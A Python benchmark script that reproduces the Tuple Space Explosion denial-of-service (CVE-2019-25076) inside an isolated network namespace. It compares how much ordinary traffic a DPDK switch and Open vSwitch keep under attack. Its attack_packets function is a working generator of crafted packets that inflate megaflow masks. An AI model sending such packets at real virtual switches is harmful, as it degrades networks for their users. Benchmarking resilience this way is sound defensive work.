#!/usr/bin/env python3
"""The attack on tuple space search (Tuple Space Explosion, CVE-2019-25076), on this switch and on Open vSwitch with DPDK.

Port 1 brings ordinary traffic as fast as it goes. Port 3 brings an attacker's packets, ten thousand a second, whose headers differ from what
"allow some, drop the rest" rules allow in every combination of leading bits, so that each makes a megaflow of another mask. Prints the ordinary
traffic's rate before and during the attack. Runs in a network namespace of its own (unshare -n).
"""
import argparse
import datetime
import itertools
import os
import random
import statistics
import tempfile
import time

from dpdkswitch import OVS, Sender, Switch, checksum, delete_veth, in_own_network, machine, make_veth, without_slow_pages, write_capture

ACLS = {
    "destination port": ["udp,tp_dst=53", "tcp,tp_dst=80"],
    "source address and ports": ["ip,nw_src=10.0.0.1", "udp,tp_dst=53", "udp,tp_src=4000", "tcp,tp_dst=80"],
    "addresses and ports": ["ip,nw_src=10.0.0.1", "ip,nw_dst=10.128.0.1", "udp,tp_dst=53", "udp,tp_src=4000", "tcp,tp_dst=80", "tcp,tp_src=4000"],
}


def attack_packets(count):
    """Packets that agree with the allowed values in their first bits and differ in the next, for random numbers of bits."""
    chance = random.Random(3)

    def near(value, width):
        bit = chance.randrange(width)
        return (value ^ 1 << (width - 1 - bit)) & ~((1 << (width - 1 - bit)) - 1) | chance.getrandbits(width - 1 - bit) if bit < width - 1 else value ^ 1

    for _ in range(count):
        source, destination = near(0x0A000001, 32), near(0x0A800001, 32)
        proto = chance.choice((6, 17))
        ip = bytearray(bytes.fromhex("4500002e00000000") + bytes([64, proto, 0, 0]) + source.to_bytes(4, "big") + destination.to_bytes(4, "big"))
        ip[10:12] = checksum(bytes(ip)).to_bytes(2, "big")
        ports = near(4000, 16).to_bytes(2, "big") + near(53 if proto == 17 else 80, 16).to_bytes(2, "big")
        transport = ports + (bytes([0, 26, 0, 0]) + bytes(18) if proto == 17 else bytes(8) + bytes([0x50, 2]) + bytes(12))
        yield bytes.fromhex("0200000000020200000000010800") + bytes(ip) + transport[:26]


def measure(command, capture, allowed, packets, rate, seconds):
    flows = [f"priority=100,{rule},actions=output:2" for rule in allowed] + ["priority=1,actions=drop"]
    with Switch(command, flows) as switch:
        switch.sink(2)
        switch.capture(1, capture)
        make_veth("attack0", "attack1")
        try:
            switch.port(3, "net_af_packet0,iface=attack0")
            return attacked(switch, packets, rate, seconds)
        finally:
            delete_veth("attack0")


def attacked(switch, packets, rate, seconds):
    time.sleep(2)
    before = statistics.median(switch.rate(1) for _ in range(3))
    attacker = Sender("attack1", itertools.cycle(packets), rate)
    attacker.start()
    time.sleep(seconds)
    during = statistics.median(switch.rate(1) for _ in range(3))
    attacker.stop()
    return before, during, switch.megaflows(), attacker.sent


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--vswitchd", required=True)
    parser.add_argument("--rate", type=int, default=10_000, help="the attacker's packets per second")
    parser.add_argument("--seconds", type=float, default=6, help="how long the attack goes before the rate is taken")
    parser.add_argument("--rounds", type=int, default=3)
    parser.add_argument("--output")
    arguments = parser.parse_args()
    in_own_network()
    packets = list(attack_packets(100_000))
    names = {"this switch": os.path.abspath(arguments.vswitchd), "OVS-DPDK": OVS}
    rounds = {(title, name): [] for title in ACLS for name in names}
    with tempfile.TemporaryDirectory() as directory, without_slow_pages():
        capture = f"{directory}/traffic.pcap"
        write_capture(capture, range(1000))
        for number in range(arguments.rounds):
            for title, name in rounds:
                before, during, flows, sent = measure(names[name], capture, ACLS[title], packets, arguments.rate, arguments.seconds)
                rounds[title, name].append((before / 1e6, during / 1e6, 100 * during / before, flows, sent))
                print(f"round {number + 1}, {title}, {name}: {before / 1e6:.1f} to {during / 1e6:.1f} Mpps, {flows} megaflows", flush=True)
    lines = ["| rules allow by | switch | before, Mpps | attacked, Mpps | left | megaflows | attack packets |", "|---|---|---:|---:|---:|---:|---:|"]
    for title, name in rounds:
        before, during, left, flows, sent = (statistics.median(values) for values in zip(*rounds[title, name]))
        lines.append(f"| {title} | {name} | {before:.1f} | {during:.1f} | {left:.0f} % | {flows:.0f} | {sent:.0f} |")
    table = "\n".join(lines)
    print(table)
    if arguments.output:
        with open(arguments.output, "w") as f:
            f.write(f"""# Under attack

Ordinary traffic (1,000 flows to UDP port 53, endless) before and during a Tuple Space Explosion (CVE-2019-25076) of {arguments.rate} packets a
second on another port of the same polling thread; medians of {arguments.rounds} rounds of `Benchmarks/explosion.py`, {datetime.date.today()};
{machine()}.

{table}
""")


if __name__ == "__main__":
    main()
